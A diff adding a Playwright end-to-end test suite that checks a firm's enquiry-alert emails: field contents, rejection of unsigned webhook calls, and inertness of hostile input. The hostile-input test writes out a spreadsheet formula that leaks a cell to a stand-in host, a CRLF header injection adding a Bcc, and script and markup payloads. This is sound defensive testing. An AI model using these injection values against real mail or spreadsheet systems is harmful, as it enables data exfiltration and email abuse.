@@ -1,0 +1,111 @@
+import { backendUrl } from '@staycompliant/local-ports';
+import { demoKeys } from '../../../packages/dev-backend/src/jwt-keys';
+import { localNotifyEnquirySecret } from '../../../packages/dev-backend/src/enquiry-alert';
+import { openContactDialog, fillEnquiry, readRows, toastWith, uniqueEmail } from '../contact/contact-support';
+import { expect, test } from '../support/fixtures';
+import { hostileMarkup, recordDialogs } from '../support/inert-text';
+import { mailHolding, waitForOneMail } from './mail-catcher';
+
+// The enquiry alert end to end (docs/architecture.md, "The enquiry alert"): the production build, the local
+// backend running notify-enquiry on Deno, and maildev as the firm's mail server (e2e/serve-for-tests.mjs).
+
+const thanks = "Thank you! We'll get back to you soon.";
+const functionUrl = `${backendUrl()}/functions/v1/notify-enquiry`;
+
+test('a visitor sends an enquiry and within 10 s the firm has an e-mail with its fields and a link to it in the inbox', async ({ page, request }, testInfo) => {
+  const email = uniqueEmail('Alert.Reader', testInfo.project.name);
+  await page.goto('/about');
+  const dialog = await openContactDialog(page);
+  await fillEnquiry(page, dialog, {
+    name: 'Katherine Johnson',
+    email,
+    companySize: 'More than 100 employees',
+    services: ['Accounting & Bookkeeping', 'Controller & CFO Advisory'],
+    description: 'We are closing our books for the year and need a fractional CFO.',
+  });
+  const submittedAt = Date.now();
+  await dialog.getByRole('button', { name: 'Submit' }).click();
+  await expect(toastWith(page, thanks)).toBeVisible();
+
+  const { mail } = await waitForOneMail(email.toLowerCase(), 10_000);
+  const secondsToMail = (Date.now() - submittedAt) / 1000;
+  testInfo.annotations.push({ type: 'submit to mail', description: `${secondsToMail.toFixed(2)} s` });
+  console.log(`[${testInfo.project.name}] submit to mail in the catcher: ${secondsToMail.toFixed(2)} s`);
+
+  const [row] = await readRows<{ id: string; created_at: string }>(request, 'contact_submissions', `email=eq.${encodeURIComponent(email.toLowerCase())}`);
+  const link = `http://127.0.0.1:4173/admin/enquiries?id=${row!.id}`;
+  expect(mail.subject).toBe('New enquiry from Katherine Johnson (100+)');
+  expect(mail.to.map((to) => to.address)).toEqual(['enquiries@staycompliant.test']);
+  expect(mail.headers['message-id']).toBe(`<enquiry-${row!.id}@staycompliant.test>`);
+  for (const part of [mail.text, mail.html]) {
+    for (const field of ['Katherine Johnson', email.toLowerCase(), '100+', 'Accounting &', 'Controller &', 'We are closing our books for the year and need a fractional CFO.', row!.created_at, link]) {
+      expect(part).toContain(field);
+    }
+  }
+});
+
+test('a hostile enquiry is inert in the e-mail: markup, quotes and formulas are text, and a newline in the name reaches no header', async ({ page, request }, testInfo) => {
+  const dialogs = recordDialogs(page);
+  const email = uniqueEmail('Hostile.Alert', testInfo.project.name).toLowerCase();
+  const formula = '=HYPERLINK("http://evil.test/?leak="&A1,"Click me")';
+  const hostile = {
+    name: `Mallory ${hostileMarkup.image}\r\nBcc: victim@example.com\nX-Injected: yes`,
+    email,
+    company_size: 'less than 10',
+    services_interested: ['Legal Services'],
+    description: `${formula}\n${hostileMarkup.script} ${hostileMarkup.attributeBreakout} "double" 'single' & done`,
+  };
+  // The form's Name field is one line, so the newline comes as anon through the REST API, as a script could send it.
+  const { anonKey } = demoKeys();
+  const stored = await request.post(`${backendUrl()}/rest/v1/contact_submissions`, {
+    headers: { apikey: anonKey, Authorization: `Bearer ${anonKey}`, 'Content-Type': 'application/json' },
+    data: hostile,
+  });
+  expect(stored.status()).toBe(201);
+
+  const { mail } = await waitForOneMail(email, 10_000);
+  expect(mail.subject).toBe(`New enquiry from Mallory ${hostileMarkup.image} Bcc: victim@example.com X-Injected: yes (less than 10)`);
+  expect(Object.keys(mail.headers)).not.toContain('x-injected');
+  expect(Object.keys(mail.headers)).not.toContain('bcc');
+  expect(JSON.stringify(mail.to)).not.toContain('victim');
+  expect(mail.html).not.toContain('<img');
+  expect(mail.html).not.toContain('<script');
+  expect(mail.html).not.toContain('<svg');
+  expect(mail.html).toContain('=HYPERLINK(&quot;http://evil.test/?leak=&quot;&amp;A1,&quot;Click me&quot;)');
+  expect(mail.text).toContain(formula);
+
+  // Rendered as a mail client would, the HTML part shows the visitor's text and makes nothing of it.
+  await page.setContent(mail.html);
+  await expect(page.locator('img, script, svg, [onerror], [onload]')).toHaveCount(0);
+  await expect(page.getByText(hostileMarkup.image).first()).toBeVisible();
+  await expect(page.getByText(formula)).toBeVisible();
+  await expect(page.getByRole('link')).toHaveCount(1);
+  await expect(page.getByRole('link', { name: 'Open it in the inbox' })).toHaveAttribute('href', /^http:\/\/127\.0\.0\.1:4173\/admin\/enquiries\?id=[0-9a-f-]{36}$/);
+  expect(dialogs).toEqual([]);
+
+  const [row] = await readRows<{ name: string }>(request, 'contact_submissions', `email=eq.${encodeURIComponent(email)}`);
+  expect(row!.name).toBe(hostile.name);
+});
+
+test('the function answers 401 to a call without the shared secret, or with a wrong one, and sends nothing', async ({ request }, testInfo) => {
+  const forged = uniqueEmail('forged', testInfo.project.name).toLowerCase();
+  const payload = {
+    type: 'INSERT',
+    table: 'contact_submissions',
+    schema: 'public',
+    record: { id: crypto.randomUUID(), name: 'Forged', email: forged, company_size: '100+', services_interested: ['Tax Filing'], description: 'A forged call.', created_at: new Date().toISOString() },
+    old_record: null,
+  };
+  const { anonKey, serviceRoleKey } = demoKeys();
+  const wrong: Record<string, string>[] = [{}, { 'x-webhook-secret': 'guess' }, { 'x-webhook-secret': '' }, { apikey: serviceRoleKey, Authorization: `Bearer ${serviceRoleKey}` }, { apikey: anonKey }];
+  for (const headers of wrong) {
+    const response = await request.post(functionUrl, { headers: { 'Content-Type': 'application/json', ...headers }, data: payload });
+    expect(response.status(), JSON.stringify(headers)).toBe(401);
+  }
+  await new Promise((resolve) => setTimeout(resolve, 500));
+  expect(await mailHolding(forged)).toEqual([]);
+  // The same call with the secret is taken: the 401s were about the secret, not the payload.
+  const taken = await request.post(functionUrl, { headers: { 'x-webhook-secret': localNotifyEnquirySecret }, data: payload });
+  expect(taken.status()).toBe(200);
+  await waitForOneMail(forged, 10_000);
+});
